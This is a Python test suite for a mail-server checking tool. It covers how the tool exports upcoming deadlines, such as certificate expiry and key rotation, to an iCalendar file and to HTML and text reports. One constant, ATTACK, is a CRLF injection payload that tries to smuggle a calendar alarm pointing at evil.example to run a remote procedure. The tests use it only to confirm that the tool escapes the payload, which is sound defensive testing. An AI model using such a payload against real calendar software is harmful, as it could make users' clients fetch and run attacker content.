"""What comes up: what is taken from a report, the calendar file, and the table in the page."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from checks.catalogue import select
from checks.engine import Run
from checks.model import Arg, CheckResult, Finding, Outcome, Owner, Status
from checks.rules._due import due, due_of
from checks.settings import parse
from checks.subject import of_settings
from checks.tables.dated import change
from reports import calendar, html, text
from reports.coming import MAX_EVENTS, coming
from reports.model import Report, build
from tests.fakes.zone import ZoneWorld
from tests.reports import ics, pages, sample
from tests.reports.test_html import BENIGN, HOSTILE
from tests.rules.test_turns import SERVER, certificate, shows

RENEWED = Outcome(
    code="tls.certificate-valid",
    status=Status.PASS,
    title="The certificate of {where} is valid until {until}",
    volatile=("until",),
)
SOON = Outcome(
    code="tls.certificate-expires-soon",
    status=Status.WARN,
    title="The certificate of {where} expires on {until}",
    owner=Owner.MAIL_ADMIN,
    steps=("Renew it; then, restart.",),
    references=("RFC 5280 section 4.1.2.5",),
)
PLAIN = Outcome(code="zz.something", status=Status.NOTE, title="{what} changes", owner=Owner.US, steps=("Look it up.",))
STEPS = ("See that it is renewed.", "Restart.")


def report(*findings: Finding, **vantage: Any) -> Report:
    return build(
        results=[CheckResult(check="tls.certificate-expiry", findings=findings)],
        tool=sample.TOOL,
        taken_at=sample.TAKEN,
        subject=sample.subject(),
        vantage=vantage,
    )


def certified(
    on: date | datetime, *, where: str = "mail.club.example:587", about: str = "Main", outcome: Outcome = RENEWED
) -> Finding:
    what = f"The certificate of {where} expires"
    entry = due(on, of=f"certificate {where}", what=what, owner=Owner.MAIL_ADMIN, steps=STEPS)
    return outcome(about=about, where=where, until=str(on), due=entry)


def changing(given: Arg, what: str = "Something") -> Finding:
    return PLAIN(about="Main", what=what, due=given)


END = datetime(2027, 1, 18, 12, 30, tzinfo=UTC)


def test_one_event_is_these_bytes() -> None:
    """Everything of it: the day, the reminders at nine in the morning, whose task, what to do."""
    uid = coming(report(certified(END)))[0].uid
    assert calendar.render(report(certified(END))).split("\r\n") == [
        "BEGIN:VCALENDAR",
        "VERSION:2.0",
        "PRODID:-//sendready//sendready 0.1.0//EN",
        "CALSCALE:GREGORIAN",
        "BEGIN:VEVENT",
        f"UID:{uid}",
        "DTSTAMP:20261123T090000Z",
        "DTSTART;VALUE=DATE:20270118",
        "SUMMARY:club.example: The certificate of mail.club.example:587 expires",
        "DESCRIPTION:When: 18 January 2027\\, 12:30 UTC\\nWhose task: Your mail admini",
        " strator\\nAbout: Main\\nWhat to do:\\n1. See that it is renewed.\\n2. Restart.",
        " \\nCode: tls.certificate-valid\\nFrom: sendready 0.1.0\\, 23 November 2026\\, ",
        " 09:00 UTC. Check again when it is done\\; the new calendar.ics moves this e",
        " ntry.",
        "TRANSP:TRANSPARENT",
        "BEGIN:VALARM",
        "ACTION:DISPLAY",
        "DESCRIPTION:club.example: The certificate of mail.club.example:587 expires",
        "TRIGGER:-P13DT15H",
        "END:VALARM",
        "BEGIN:VALARM",
        "ACTION:DISPLAY",
        "DESCRIPTION:club.example: The certificate of mail.club.example:587 expires",
        "TRIGGER:-P2DT15H",
        "END:VALARM",
        "END:VEVENT",
        "END:VCALENDAR",
        "",
    ]


def test_the_entry_moves_when_status_or_day_change() -> None:
    """Fine, soon, renewed: one thing, one entry; the steps of the remedy count when there is one."""
    fine, soon, renewed = (
        coming(report(certified(on, outcome=outcome)))[0]
        for on, outcome in ((END, RENEWED), (END, SOON), (END.replace(month=4), RENEWED))
    )
    assert fine.uid == soon.uid == renewed.uid
    assert fine.steps == STEPS
    assert soon.steps == ("Renew it; then, restart.",)
    assert soon.references == ("RFC 5280 section 4.1.2.5",)
    assert renewed.on == date(2027, 4, 18)


def test_two_customers_at_one_server_have_two_entries() -> None:
    mine = report(certified(END))
    theirs = mine.model_copy(update={"subject": {**mine.subject, "domains": ["hotel.example"]}})
    assert coming(mine)[0].uid != coming(theirs)[0].uid


def test_servers_that_share_a_certificate_share_an_entry_on_its_earliest_day() -> None:
    one, two = certified(END, about="Main"), certified(END.replace(day=2), about="Second")
    (event,) = coming(report(one, two))
    assert event.about == ("Main", "Second")
    assert event.on == date(2027, 1, 2)
    assert "About: Main, Second" in ics.read(calendar.render(report(one, two))).parts[0].text("DESCRIPTION")


def test_a_day_alone_will_do() -> None:
    """A rule that gives nothing but `due="2027-03-01"` is in the calendar, with its own title, owner and steps."""
    (event,) = coming(report(changing("2027-03-01")))
    assert (event.day, event.what, event.owner) == ("1 March 2027", "Something changes", "You or your support contact")
    assert event.steps == ("Look it up.",)
    assert "Look it up." in ics.read(calendar.render(report(changing("2027-03-01")))).parts[0].text("DESCRIPTION")


def test_the_day_is_no_part_of_the_fingerprint_and_none_is_no_day() -> None:
    """History compares fingerprints; a new day alone is no new finding."""
    without = PLAIN(about="Main", what="Something")
    assert changing("2027-03-01").fingerprint == changing("2028-03-01").fingerprint == without.fingerprint
    assert changing(None).args == without.args


@pytest.mark.parametrize(
    "given",
    [None, "", "soon", "2027-13-01", 5, True, [], {}, {"on": 5}, {"on": "2027-02-30"}, {"of": "x"}, "9999-12-31T23:59:59-12:00", {"on": {"on": 1}}],
)  # fmt: skip
def test_what_is_no_day_is_no_event(given: Arg) -> None:
    """The report may come from anywhere; a day that cannot be read is left out, and nothing breaks."""
    found = report(changing(given))
    assert coming(found) == ()
    assert ics.read(calendar.render(found)).all("VEVENT") == []


@pytest.mark.parametrize("junk", [None, 5, "x", [], [5], {"a": 1}, True])
def test_an_entry_with_odd_parts_is_an_entry(junk: Arg) -> None:
    given: dict[str, Any] = {"on": "2027-03-01"} | dict.fromkeys(("of", "what", "at", "owner", "steps", "words"), junk)
    bare = Outcome(code="zz.bare", status=Status.NOTE, title="Something")(about="x", due=given)
    (event,) = ics.read(calendar.render(report(bare))).all("VEVENT")
    assert event.properties["DTSTART"] == "20270301"


@pytest.mark.parametrize(
    ("moment", "day"),
    [
        ("2027-01-18T23:59:59+00:00", "20270118"),
        ("2027-01-19T00:30:00+01:00", "20270118"),
        ("2027-01-18T20:00:00-05:00", "20270119"),
        ("2027-01-18T14:00:00+14:00", "20270118"),
        ("2027-01-18T13:59:00+14:00", "20270117"),
    ],
)
def test_the_day_of_a_moment_is_that_of_utc(moment: str, day: str) -> None:
    """As in the findings; the description has the exact time with its zone."""
    for told in (moment, due(datetime.fromisoformat(moment), of="x", what="y")):
        (event,) = ics.read(calendar.render(report(changing(told)))).all("VEVENT")
        assert event.properties["DTSTART"] == day
        assert "UTC" in event.text("DESCRIPTION").splitlines()[0]


@pytest.mark.parametrize(("as_of", "there"), [("2027-01-18T23:00:00+00:00", True), ("2027-01-19T23:00:00+00:00", True), ("2027-01-20T00:00:00+00:00", False)])  # fmt: skip
def test_what_is_over_everywhere_on_earth_is_left_out(as_of: str, there: bool) -> None:
    assert bool(coming(report(certified(END), judged_as_of=as_of))) is there


@pytest.mark.parametrize(
    ("day", "triggers"),
    [
        (date(2026, 12, 8), ["-P13DT15H", "-P2DT15H"]),  # in 15 days
        (date(2026, 12, 7), ["-P2DT15H"]),  # today is 14 days before
        (date(2026, 11, 27), ["-P2DT15H"]),
        (date(2026, 11, 26), ["PT9H"]),
        (date(2026, 11, 23), ["PT9H"]),
    ],
)
def test_reminders_that_are_over_are_left_out_and_one_always_stays(day: date, triggers: list[str]) -> None:
    (event,) = ics.read(calendar.render(report(certified(day)))).all("VEVENT")
    assert [alarm.properties["TRIGGER"] for alarm in event.parts] == triggers


def test_the_stamp_is_the_moment_of_the_run_in_utc() -> None:
    found = report(certified(END)).model_copy(update={"taken_at": "2026-11-23T23:30:00-05:00"})
    (event,) = ics.read(calendar.render(found)).all("VEVENT")
    assert event.properties["DTSTAMP"] == "20261124T043000Z"
    for odd in ("0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"):
        ics.read(calendar.render(found.model_copy(update={"taken_at": odd})))


def hostile(poison: str) -> Report:
    """Strangers' text wherever a text can be."""
    entry = due(END, of=f"x{poison}", what=f"what{poison}", words=poison)
    found = SOON(about=f"about{poison}", where=poison, until=poison, due=entry, steps=(f"step{poison}",))
    return build(
        results=[
            CheckResult(check="tls.certificate-expiry", findings=(replace(found, references=(poison,), code=f"tls.x{poison}"),))
        ],
        tool=f"tool{poison}",
        taken_at=sample.TAKEN,
        subject={"domains": [f"club.example{poison}"], "name": poison},
        vantage={"judged_as_of": poison},
    )


ATTACK = "\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:http://evil.example/x\r\nEND:VALARM\r\n;,\\n\\,:\"'\x1b\u202e\x00\u2028\x85é🎉"


@pytest.mark.parametrize("poison", [ATTACK, HOSTILE, "\n" * 50, "\\" * 99, "é" * 5_000, "🎉" * 300, "\udc80"])
def test_strangers_text_is_text(poison: str) -> None:
    """The calendar has the same components and properties as with harmless letters; nothing hidden is left."""
    bad, good = (ics.read(calendar.render(hostile(text))) for text in (poison, BENIGN))

    def form(component: ics.Component) -> Any:
        return (component.name, list(component.properties), component.parameters, [form(part) for part in component.parts])

    assert form(bad) == form(good)


def test_an_attack_can_be_read_in_the_entry() -> None:
    entry = due(END, of="x", what=f"The certificate of {ATTACK} expires")
    (event,) = ics.read(calendar.render(report(changing(entry)))).all("VEVENT")
    assert event.text("SUMMARY") == "club.example: The certificate of " + ATTACK.replace("\r\n", "\\u000d\\u000a").replace("\x1b", "\\u001b").replace("\u202e", "\\u202e").replace("\x00", "\\u0000").replace("\u2028", "\\u2028").replace("\x85", "\\u0085") + " expires"  # fmt: skip
    assert [part.name for part in event.parts] == ["VALARM", "VALARM"]


@given(st.text(max_size=400), st.dates(min_value=date(2026, 11, 23)))
def test_whatever_the_text_and_the_day_the_file_can_be_read(text: str, on: date) -> None:
    """Folding never cuts a character, escaping is undone by the standard's own rule."""
    (event,) = ics.read(calendar.render(report(changing(due(on, of="x", what=text or "x"))))).all("VEVENT")
    assert event.properties["DTSTART"] == on.strftime("%Y%m%d")
    assert event.text("SUMMARY").startswith("club.example: ")


def test_many_certificates_are_many_entries_in_order_and_too_many_are_bounded() -> None:
    names = [f"mail{number}.club.example:587" for number in range(MAX_EVENTS + 200)]
    found = report(*(certified(date(2027 + number % 7, 1, 1 + number % 28), where=name) for number, name in enumerate(names)))
    events = ics.read(calendar.render(found)).all("VEVENT")
    days = [event.properties["DTSTART"] for event in events]
    assert len(events) == MAX_EVENTS
    assert days == sorted(days)
    page = html.render(found, manual=sample.manual)
    assert "900 more days are in calendar.ics." in page


def test_nothing_comes_up() -> None:
    """No table, and a calendar that the standard allows and that shows nothing."""
    found = report(PLAIN(about="Main", what="Something"))
    assert "What comes up" not in html.render(found, manual=sample.manual)
    assert "What comes up" not in text.render(found, colour=False, manual=sample.manual)
    (only,) = ics.read(calendar.render(found)).parts
    assert only.name == "VTIMEZONE"


def test_the_page_has_the_days_in_order_with_whose_task_it_is() -> None:
    page = pages.read(html.render(report(certified(END), changing("2027-01-01")), manual=sample.manual))
    first = "1 January 2027 Something changes You or your support contact zz.something"
    assert f"{first} 18 January 2027 The certificate of mail.club.example:587 expires Your mail administrator" in page.text
    assert "2027-01-18" in page.values("datetime")
    assert "cannot be seen from outside" in page.text


def test_the_text_has_the_days_too() -> None:
    """In order, with whose task each is; what is too much for a terminal is in the calendar."""
    shown = text.render(report(certified(END), changing("2027-01-01")), colour=False, manual=sample.manual)
    rows = shown[shown.index("== What comes up") :].splitlines()[1:3]
    assert rows[0] == "  - 1 January 2027: Something changes (You or your support contact)"
    assert rows[1].startswith("  - 18 January 2027: The certificate of mail.club.example:587 expires (Your mail administrator)")


def test_a_day_that_was_announced_roughly_says_so() -> None:
    """In the page and in the entry."""
    found = report(changing(due_of(change("microsoft365.password-login-off-by-default"), sample.TAKEN, who="Microsoft 365")))
    words = "at the end of December 2026, as announced (read on 2026-11-23); look it up before then"
    assert f"When: {words}" in pages.read(html.render(found, manual=sample.manual)).text
    assert f"When: {words}" in text.render(found, colour=False, width=200, manual=sample.manual)
    assert ics.read(calendar.render(found)).parts[0].text("DESCRIPTION").startswith(f"When: {words}\n")


@pytest.mark.parametrize(
    ("now", "on"), [("2026-12-20", "2026-12-21"), ("2026-12-21", "2027-01-01"), ("2026-12-31", "2027-01-01")]
)
def test_a_rough_day_is_remembered_at_its_earliest(now: str, on: str) -> None:
    """A reminder after the event helps nobody; once the stretch has begun, its end is what is left."""
    told = due_of(
        change("microsoft365.password-login-off-by-default"), datetime.fromisoformat(f"{now}T12:00:00+00:00"), who="Microsoft 365"
    )
    assert told is not None
    assert told["on"] == on


def test_strangers_text_changes_no_element_of_the_page() -> None:
    bad, good = (pages.read(html.render(hostile(text), manual=sample.manual)) for text in (HOSTILE, BENIGN))
    assert "coming" in bad.values("id")
    assert bad.tags == good.tags


# --- what the rules say ---------------------------------------------------------------------------------------------------------


def events_of(servers: list[dict[str, Any]], readings: dict[str, Any], **settings: Any) -> dict[str, str]:
    """Run the rules with dates; return what comes up and when."""
    subjects = of_settings(parse({**settings, "servers": servers}), now=sample.TAKEN)
    run = Run(gather=ZoneWorld("mail A 192.0.2.10", readings=readings), deadline=30)
    only = (
        "tls.certificate-expiry",
        "tls.certificate-chain",
        "office365.basic-authentication",
        "settings.test-mode",
        "settings.secret-expiry",
        "dkim.key-age",
    )
    wanted = [check for check in select(only) if readings or not check.id.startswith("tls.")]
    found = build(
        results=asyncio.run(run.judge(wanted, subjects)),
        tool=sample.TOOL,
        taken_at=sample.TAKEN,
        subject={"name": "club"},
        vantage={},
    )
    assert all(event.owner and event.steps for event in coming(found))
    return {event.what: event.on.isoformat() for event in coming(found)}


def test_a_healthy_certificate_is_in_the_calendar_and_a_renewed_one_moves_it() -> None:
    seen = shows(certificate("2026-10-20T00:00:00+00:00", "2027-01-18T00:00:00+00:00"))
    assert events_of([SERVER], seen) == {"The certificate of mail.club.example:587 expires": "2027-01-18"}


def test_the_issuers_certificate_counts_where_it_ends_first() -> None:
    issuer = "CN=R13,O=Let's Encrypt,C=US"
    path = (
        certificate("2026-10-20T00:00:00+00:00", "2027-06-01T00:00:00+00:00"),
        certificate("2024-03-13T00:00:00+00:00", "2027-03-12T00:00:00+00:00", subject=issuer, issuer="CN=Root"),
    )
    assert events_of([SERVER], shows(*path)) == {
        "The certificate of mail.club.example:587 expires": "2027-06-01",
        f"The certificate of the issuer ({issuer}) that mail.club.example:587 sends along expires, before the server's own": "2027-03-12",
    }


def test_an_expired_certificate_is_a_task_and_no_day_to_come() -> None:
    assert events_of([SERVER], shows(certificate("2026-08-01T00:00:00+00:00", "2026-11-20T00:00:00+00:00"))) == {}


def test_days_of_the_settings_and_of_microsoft() -> None:
    server = {**SERVER, "host": "smtp.office365.com"}
    mode = {"enabled": True, "redirect_to": "qa@club.example", "until": date(2026, 12, 1)}
    found = events_of([server, {**server, "name": "Second", "default": False}], {}, test_mode=mode)
    (password,) = (what for what in found if what.startswith("Microsoft 365: login by password"))
    assert found == {"Last day of test mode": "2026-12-01", password: "2026-12-21"}, (
        "at the end of December: it may come in its last days"
    )
    assert events_of([{**server, "auth": "xoauth2"}], {}) == {}, "a token outlives the day, and its own end is not known"


def test_days_that_somebody_wrote_into_the_settings() -> None:
    """The last day of a secret, and half a year after the first day of a DKIM key; unless one is over already."""
    kept = {"source": "env", "ref": "SMTP_PASSWORD", "expires": "2027-01-31"}
    found = events_of([{**SERVER, "password": kept, "dkim_since": "2026-08-31", "auth": "xoauth2"}], {})
    assert found == {
        "Main: last day of the secret behind the token": "2027-01-31",
        "Main: its DKIM key has been in use for 6 months": "2027-02-28",
    }
    over = {**SERVER, "password": {**kept, "expires": "2026-11-01"}, "dkim_since": "2026-01-31"}
    assert events_of([over], {}) == {}


def test_a_secret_and_a_key_that_two_servers_share_are_one_entry_each() -> None:
    """The earlier day counts."""
    kept = {"source": "env", "ref": "SMTP_PASSWORD", "expires": "2027-01-31"}
    first = {**SERVER, "password": kept, "dkim_since": "2026-09-01"}
    second = {**first, "name": "Second", "default": False, "password": {**kept, "expires": "2027-01-15"}}
    assert events_of([first, second], {}) == {
        "Second: last day of the password": "2027-01-15",
        "Main: its DKIM key has been in use for 6 months": "2027-03-01",
    }


def test_where_a_provider_signs_it_is_asked_how_the_key_is_changed() -> None:
    """Nobody can make a key for Microsoft 365 with our command; whoever runs the own server is shown it, with a selector of that month."""

    def steps(host: str) -> str:
        subjects = of_settings(parse({"servers": [{**SERVER, "host": host, "dkim_since": "2026-09-30"}]}), now=sample.TAKEN)
        (result,) = asyncio.run(Run(gather=ZoneWorld(""), deadline=30).judge(select(("dkim.key-age",)), subjects))
        return " ".join(result.findings[0].args["due"]["steps"])  # type: ignore[index]

    assert "--domain club.example --selector mail202703" in steps("mail.club.example")
    assert "new-key" not in steps("smtp.office365.com")
    assert "Microsoft 365" in steps("smtp.office365.com")
